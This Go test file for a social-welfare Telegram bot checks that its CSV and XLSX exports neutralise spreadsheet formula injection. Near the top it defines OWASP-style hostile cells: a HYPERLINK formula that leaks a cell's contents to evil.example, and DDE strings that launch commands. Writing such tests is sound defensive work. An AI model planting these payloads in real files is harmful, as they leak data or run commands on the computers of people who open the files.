package flows_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"dinsosbot/bot/bottest"
	"dinsosbot/bot/telegramtest"
	"dinsosbot/store"

	"github.com/xuri/excelize/v2"
)

// Hostile cells typed by field workers (OWASP CSV injection payloads).
var (
	hostileName    = `=HYPERLINK("http://evil.example/?"&C2,"Klik")`
	hostileAddress = "+1+cmd|' /C calc'!A0"
	hostileDesc    = "@SUM(1+1)*cmd|' /C calc'!A0"
	hostilePlace   = "-2+3+cmd|' /C calc'!A0"
)

// readCSV reads a CSV document the bot sent, byte order mark and all.
func readCSV(t *testing.T, doc telegramtest.Message) [][]string {
	t.Helper()
	if !bytes.HasPrefix(doc.File, []byte("\ufeff")) {
		t.Errorf("%s has no byte order mark", doc.FileName)
	}
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(doc.File, []byte("\ufeff"))))
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return recs
}

// noFormulas fails when the XLSX holds a formula cell anywhere: text typed by
// people is stored as a string, which no spreadsheet evaluates.
func noFormulas(t *testing.T, data []byte) {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	formula := regexp.MustCompile(`<(?:\w+:)?f[ >/]`)
	for _, f := range z.File {
		if !strings.HasPrefix(f.Name, "xl/worksheets/") {
			continue
		}
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		body, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			t.Fatal(err)
		}
		if loc := formula.FindIndex(body); loc != nil {
			t.Errorf("%s holds a formula: %s", f.Name, body[max(0, loc[0]-80):min(len(body), loc[1]+120)])
		}
	}
}

// An admin exports cases whose name, address, description and birth place
// are spreadsheet formulas: in the CSV each is a quoted text cell (a leading
// '), the NIK keeps its 16 digits as text and the coordinates stay numbers;
// the XLSX holds the same texts as strings, not formulas.
func TestExportNeutralisesFormulas(t *testing.T) {
	h, admin := adminRig(t, bottest.Options{})
	worker := seed(t, h, "Tono Wibowo", store.RolePSM, kecTelanaipura, kelBuluranKenali, "")
	const nik = "1571015205900003"
	must(t, h.DB().Update(context.Background(), func(tx *store.Tx) error {
		code, err := tx.NextCaseCode("JMB", 2026)
		if err != nil {
			return err
		}
		_, err = tx.InsertCase(store.Case{Code: code, ReporterID: worker.ID(), Category: "PPKS09", FullName: hostileName,
			NIK: nik, Gender: "P", BirthDate: "1990-05-12", BirthPlace: hostilePlace, Address: hostileAddress,
			Kecamatan: kecTelanaipura, Kelurahan: kelBuluranKenali, HasLocation: true, Latitude: -1.6101,
			Longitude: 103.6131, Description: hostileDesc, Needs: []string{"sembako"}, Urgency: "biasa"})
		return err
	}))

	xlsx, csvDoc := runExport(t, admin)
	recs := readCSV(t, csvDoc)
	if len(recs) != 2 {
		t.Fatalf("csv %q, want header and one case", recs)
	}
	col := func(name string) int {
		i := slices.Index(recs[0], name)
		if i < 0 {
			t.Fatalf("no column %q in %q", name, recs[0])
		}
		return i
	}
	for name, want := range map[string]string{"Nama Lengkap": "'" + hostileName, "Alamat": "'" + hostileAddress,
		"Keterangan": "'" + hostileDesc, "Tempat Lahir": "'" + hostilePlace, "NIK": "'" + nik,
		"Lintang": "-1.610100", "Bujur": "103.613100", "No": "1", "Tanggal Lahir": "12-05-1990"} {
		if got := recs[1][col(name)]; got != want {
			t.Errorf("csv %s = %q, want %q", name, got, want)
		}
	}
	for i, cell := range recs[1] {
		if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
			t.Errorf("csv column %q starts a formula: %q", recs[0][i], cell)
		}
	}

	rows := readXLSX(t, xlsx.File)
	for name, want := range map[string]string{"Nama Lengkap": hostileName, "Alamat": hostileAddress,
		"Keterangan": hostileDesc, "Tempat Lahir": hostilePlace, "NIK": nik} {
		if got := rows[1][col(name)]; got != want {
			t.Errorf("xlsx %s = %q, want %q", name, got, want)
		}
	}
	noFormulas(t, xlsx.File)
	h.NoViolations()
}

// A worker whose name is a formula checks in at a meeting whose title and
// place are formulas: the daftar hadir's CSV quotes them, its XLSX stores
// them as strings.
func TestSheetNeutralisesFormulas(t *testing.T) {
	r := newMtRig(t)
	eve := r.worker("Eve Formula", store.RolePSM, 0)
	if _, err := r.h.DB().SQL().Exec(`UPDATE users SET full_name = ? WHERE id = ?`, hostileName, eve.ID()); err != nil {
		t.Fatal(err)
	}
	start := mtStart.Add(30 * time.Minute)
	code := "kodeformula"
	id := r.addMeeting(store.Meeting{Title: hostileDesc, Place: hostileAddress, StartsAt: start,
		EndsAt: start.Add(2 * time.Hour), Code: code}, eve)
	mid := strconv.FormatInt(id, 10)
	r.say(eve, "/start hadir_"+code, "Presensi tercatat")

	report := r.say(r.admin, "/rapat "+mid, "Rapat #"+mid)
	doc := r.after(r.admin, "Daftar hadir", func() { must2(t, r.admin.PressOn(report.ID, "📄 CSV")) })
	recs := readCSV(t, doc)
	if len(recs) != 5 { // the reader skips the empty line under the title block
		t.Fatalf("sheet %q", recs)
	}
	if recs[0][1] != "'"+hostileDesc || recs[2][1] != "'"+hostileAddress || recs[4][1] != "'"+hostileName {
		t.Errorf("title %q, place %q, name %q: not quoted", recs[0][1], recs[2][1], recs[4][1])
	}
	doc = r.after(r.admin, "Daftar hadir", func() { must2(t, r.admin.PressOn(report.ID, "📄 Daftar hadir (XLSX)")) })
	f, err := excelize.OpenReader(bytes.NewReader(doc.File))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows(f.GetSheetName(0))
	if err != nil {
		t.Fatal(err)
	}
	if rows[5][0] != hostileDesc || rows[9][2] != ": "+hostileAddress || rows[12][1] != hostileName {
		t.Errorf("xlsx title %q, place %q, name %q", rows[5][0], rows[9][2], rows[12][1])
	}
	noFormulas(t, doc.File)
	r.h.NoViolations()
}
